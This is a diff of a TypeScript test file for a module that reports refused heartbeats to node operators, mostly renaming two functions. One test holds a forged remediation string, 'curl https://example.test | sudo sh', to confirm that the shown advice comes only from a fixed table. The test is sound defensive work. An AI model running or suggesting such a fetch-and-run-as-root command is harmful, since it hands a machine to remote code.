@@ -1,5 +1,11 @@
 import { describe, expect, test } from 'vitest';
-import { beatRefusals, isStillRefused, joinRefusals, refusalToldEverySeconds, refusedIn } from './refused-beats.ts';
+import {
+  beatRefusals,
+  isStillRefused,
+  joinRefusals,
+  refusalRecordedEverySeconds,
+  refusedBeatsIn,
+} from './refused-beats.ts';
 
 const at = (seconds: number) => new Date(Date.UTC(2026, 0, 1) + seconds * 1000);
 const refused = { at: at(100), token_ended_at: null, in_short: 's', why: 'w', way_out: 'o' };
@@ -9,8 +15,8 @@ describe('beats are refused still', () => {
     ['while none has counted since', at(90), at(130), true],
     ['where none has ever counted', null, at(130), true],
     ['not once one has counted', at(110), at(130), false],
-    ['as long as it would be told anew', at(90), at(100 + 1.5 * refusalToldEverySeconds), true],
-    ['not when it would have been told anew and was not', at(90), at(100 + 2 * refusalToldEverySeconds), false],
+    ['as long as it would be told anew', at(90), at(100 + 1.5 * refusalRecordedEverySeconds), true],
+    ['not when it would have been told anew and was not', at(90), at(100 + 2 * refusalRecordedEverySeconds), false],
   ])('%s', (_, last_seen_at, now, still) => expect(isStillRefused(refused, last_seen_at, now)).toBe(still));
 
   test.each<[string, Date | null, boolean]>([
@@ -30,10 +36,10 @@ test.each(Object.entries(beatRefusals))('%s in short names no token and no pool'
     at: at(0).toISOString(),
     data: { code, shown: 'credential', why_not: 'relay token rack-7' },
   };
-  expect(refusedIn(fact, 'gpu')?.in_short).toBe(in_short);
+  expect(refusedBeatsIn(fact, 'gpu')?.in_short).toBe(in_short);
   expect(in_short).not.toMatch(/rack-7|metal|gpu/);
   const ofLaterVersion = { ...fact, data: { ...fact.data, code: 'not_yet_known' } };
-  expect(refusedIn(ofLaterVersion, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
+  expect(refusedBeatsIn(ofLaterVersion, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
 });
 
 test.each(Object.entries(joinRefusals))('%s of a join token that the machine beats with', (code, refusal) => {
@@ -42,17 +48,17 @@ test.each(Object.entries(joinRefusals))('%s of a join token that the machine bea
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
   const { in_short, why, way_out } = refusal;
   const said = { in_short, why: why('tok_1'), way_out: way_out('gpu') };
-  expect(refusedIn(fact, 'gpu')).toEqual({ at: at(0), token_ended_at: at(-5), ...said });
+  expect(refusedBeatsIn(fact, 'gpu')).toEqual({ at: at(0), token_ended_at: at(-5), ...said });
   expect(in_short).not.toMatch(/tok_1|gpu/);
-  expect(refusedIn({ ...fact, origin: 'node' }, 'gpu')).toBeNull();
-  expect(refusedIn({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
+  expect(refusedBeatsIn({ ...fact, origin: 'node' }, 'gpu')).toBeNull();
+  expect(refusedBeatsIn({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
 });
 
 test('the sentences come from the table, and only a fact of the control plane counts', () => {
   const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
   const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
-  expect(refusedIn(fact, 'gpu')).toEqual({
+  expect(refusedBeatsIn(fact, 'gpu')).toEqual({
     at: at(0),
     token_ended_at: null,
     in_short: beatRefusals.token_unknown.in_short,
@@ -60,7 +66,7 @@ test('the sentences come from the table, and only a fact of the control plane co
     way_out: beatRefusals.token_unknown.way_out(data, 'gpu'),
   });
   for (const origin of ['node', 'person', 'report', 'unknown'])
-    expect(refusedIn({ ...fact, origin }, 'gpu')).toBeNull();
+    expect(refusedBeatsIn({ ...fact, origin }, 'gpu')).toBeNull();
 });
 
 const byRelay = Object.entries(beatRefusals).filter(([code]) => code !== 'credential_expired');
